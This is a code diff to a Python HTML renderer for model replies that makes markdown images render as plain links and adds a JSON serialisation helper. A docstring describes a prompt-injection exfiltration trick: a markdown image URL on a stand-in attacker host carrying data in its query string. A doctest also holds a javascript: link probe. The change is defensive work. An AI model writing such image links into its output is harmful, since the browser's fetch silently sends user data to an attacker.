@@ -63,19 +63,33 @@ class Throttle:
         return False
 
 
+def _image_as_link(renderer: Any, tokens: Sequence[Any], idx: int, options: Any, env: Any) -> str:
+    """An image in model output as a plain link, never an `<img>`: a prompt injection could make a
+    model write `![](https://evil.example/p.png?data=...)`, which the browser would fetch at once."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = renderer.renderInlineAsText(token.children or [], options, env)
+    label = f"image: {alt}" if alt else f"image: {src}"
+    return f'<a href="{html.escape(src)}" rel="noopener noreferrer nofollow">[{html.escape(label)}]</a>'
+
+
 @lru_cache(maxsize=1)
 def _markdown() -> Any:
     from markdown_it import MarkdownIt
 
-    return MarkdownIt("commonmark", {"html": False}).enable("table")
+    md = MarkdownIt("commonmark", {"html": False}).enable("table")
+    md.add_render_rule("image", _image_as_link)
+    return md
 
 
 def render_markdown(text: str) -> str:
-    """Markdown to safe HTML (commonmark, raw HTML escaped, unsafe links refused).
+    """Markdown to safe HTML (commonmark, raw HTML escaped, unsafe links refused, images as links).
 
     Example:
         >>> render_markdown("[x](javascript:alert(1))")
         '<p>[x](javascript:alert(1))</p>\\n'
+        >>> render_markdown("![cat](https://example.com/c.png)")
+        '<p><a href="https://example.com/c.png" rel="noopener noreferrer nofollow">[image: cat]</a></p>\\n'
     """
     return _markdown().render(text)
 
@@ -226,9 +240,19 @@ def _final_html(reply: Reply, *, fmt: str, show_reasoning: bool, show_usage: boo
     if show_usage:
         out.append(_footer_html(usage_line(reply, label)))
     if show_raw and reply.raw is not None:
-        raw = json.dumps(reply.raw, indent=2, ensure_ascii=False, default=str)
+        raw = json.dumps(reply.raw, indent=2, ensure_ascii=False, default=_jsonable)
         out.append(f"<details><summary>raw</summary><pre>{html.escape(raw)}</pre></details>")
     return f'<div class="cloudsway-reply">{"".join(out)}</div>'
+
+
+def _jsonable(value: Any) -> Any:
+    """For json.dumps(default=...): sequences (a chat stream's RawChunks) and mappings as JSON
+    arrays and objects rather than a quoted repr; anything else as its str."""
+    if isinstance(value, Mapping):
+        return dict(value)
+    if hasattr(value, "__iter__") and hasattr(value, "__len__") and not isinstance(value, (str, bytes, bytearray)):
+        return list(value)
+    return str(value)
 
 
 def _final_plain(reply: Reply, *, fmt: str, show_usage: bool, label: str | None, note: str | None) -> str:
